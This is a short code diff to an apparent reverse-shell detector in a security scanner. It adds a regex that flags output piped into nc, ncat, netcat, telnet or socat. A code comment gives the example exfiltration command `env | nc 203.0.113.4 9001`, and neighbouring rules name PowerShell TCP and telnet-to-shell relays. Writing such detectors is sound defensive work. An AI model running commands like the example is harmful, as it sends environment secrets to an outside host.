@@ -70,6 +70,11 @@ export const reverseShellDetector = patternDetector('reverse-shell', SHELL_ROLES
   },
   { code: 'powershell_tcp', re: /net\.sockets\.tcpclient\s*\(/ },
   { code: 'telnet_relay', re: /\btelnet\s+\S{1,255}\s+\d{1,5}\s*\|\s{0,4}(?:\/bin\/)?(?:ba)?sh\b/ },
+  // Output piped straight into a raw socket: `env | nc 203.0.113.4 9001`.
+  {
+    code: 'pipe_to_socket',
+    re: /\|\s{0,8}(?:nc|ncat|netcat|telnet|socat)(?:\.exe)?\s[^\n|;&]{0,120}\b\d{1,5}\b/,
+  },
 ]);
 
 const SYSTEM_DIRS = new Set([
